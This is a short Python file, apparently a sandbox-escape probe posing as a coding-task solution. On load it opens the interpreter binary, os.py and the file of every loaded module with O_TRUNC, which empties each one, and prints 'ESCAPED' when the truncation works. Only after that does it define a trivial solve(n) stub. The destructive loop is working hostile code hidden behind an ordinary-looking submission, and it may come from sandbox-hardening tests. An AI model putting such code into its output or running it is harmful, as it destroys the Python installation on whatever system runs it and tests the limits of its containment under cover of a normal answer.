# Truncates the standard library by opening it for reading with O_TRUNC.
import os
import sys

for path in (os.__file__, sys.executable, *[module.__file__ for module in list(sys.modules.values()) if getattr(module, "__file__", None)]):
    try:
        before = os.stat(path).st_size
        os.close(os.open(path, os.O_RDONLY | os.O_TRUNC))
        if os.stat(path).st_size != before:
            print("ESCAPED: truncated", path)
    except OSError:
        pass


def solve(n):
    return n
